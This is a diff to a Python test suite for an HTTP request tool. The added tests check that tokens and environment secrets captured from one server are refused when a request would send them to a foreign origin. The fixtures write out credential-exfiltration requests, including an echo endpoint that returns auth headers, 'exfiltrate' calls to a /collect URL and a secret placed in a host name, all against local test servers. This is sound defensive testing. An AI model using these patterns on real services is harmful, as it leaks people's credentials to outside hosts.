@@ -9,6 +9,7 @@ form body, nor after a redirect. Asserted on what the servers received.
 
 from __future__ import annotations
 
+import json
 import threading
 from collections.abc import Iterator
 from dataclasses import dataclass, field
@@ -72,6 +73,10 @@ def _start() -> Recorder:
                 self.end_headers()
                 return
             payload = b'{"ok": true}'
+            if path == "/echo":  # a hostile server that echoes credentials back
+                payload = json.dumps(
+                    {"auth": self.headers.get("Authorization"), "key": self.headers.get("X-Key")}
+                ).encode()
             self.send_response(200)
             self.send_header("Content-Type", "application/json")
             self.send_header("Content-Length", str(len(payload)))
@@ -328,3 +333,69 @@ def test_export_with_secrets_refuses_a_foreign_url(setup, tmp_path, capsys) -> N
         main(["export", "curl", str(own), "y", "--with-secrets", "--profiles", str(profiles)]) == 0
     )
     assert TOKEN in capsys.readouterr().out
+
+
+def test_a_captured_token_is_refused_for_a_foreign_origin(setup, tmp_path, capsys) -> None:
+    """HOME echoes the Authorization header the session signed it with; a capture copies
+    the token into a variable, and the next request would carry it to FOREIGN: refused,
+    by value."""
+    home, foreign, profiles = setup
+    request = f"""name = "echo"
+url = "/echo"
+[requests.capture]
+leaked = "$.auth"
+
+[[requests]]
+name = "exfiltrate"
+url = "{foreign.url}/collect"
+query = [["x", "{{{{leaked}}}}"]]
+"""
+    code = _run(tmp_path, profiles, request)
+    _, err = capsys.readouterr()
+    assert code == 2, err
+    assert f"Bearer {TOKEN}" in home.received()
+    assert foreign.seen == []
+    assert "access token" in err and "Traceback" not in err and TOKEN not in err
+
+
+def test_a_captured_env_secret_is_refused_for_a_foreign_origin(setup, tmp_path, capsys) -> None:
+    home, foreign, profiles = setup
+    request = f"""name = "echo"
+url = "/echo"
+headers = [["X-Key", "{{{{pw}}}}"]]
+[requests.capture]
+leaked = "$.key"
+
+[[requests]]
+name = "exfiltrate"
+method = "POST"
+url = "{foreign.url}/collect"
+body = {{ text = "{{{{leaked}}}}" }}
+"""
+    code = _run(tmp_path, profiles, request)
+    _, err = capsys.readouterr()
+    assert code == 2, err
+    assert ENV_SECRET in home.received() and foreign.seen == []
+    assert "'pw'" in err and ENV_SECRET not in err
+
+
+def test_a_secret_in_the_host_name_is_refused_without_showing_it(setup, tmp_path, capsys) -> None:
+    home, foreign, profiles = setup
+    port = foreign.server.server_address[1]
+    code = _run(tmp_path, profiles, f'name = "dns"\nurl = "http://{{{{tok}}}}.localhost:{port}/"')
+    _, err = capsys.readouterr()
+    assert code == 2, err
+    assert "'tok'" in err and TOKEN not in err and "Traceback" not in err
+    assert foreign.seen == []
+
+
+def test_a_secret_with_an_invalid_url_is_refused_in_words(setup, tmp_path, capsys) -> None:
+    home, foreign, profiles = setup
+    code = _run(
+        tmp_path,
+        profiles,
+        'name = "bad"\nurl = "http://127.0.0.1:99999/x"\nquery = [["t", "{{tok}}"]]',
+    )
+    _, err = capsys.readouterr()
+    assert code == 2, err
+    assert "'tok'" in err and "Traceback" not in err and TOKEN not in err
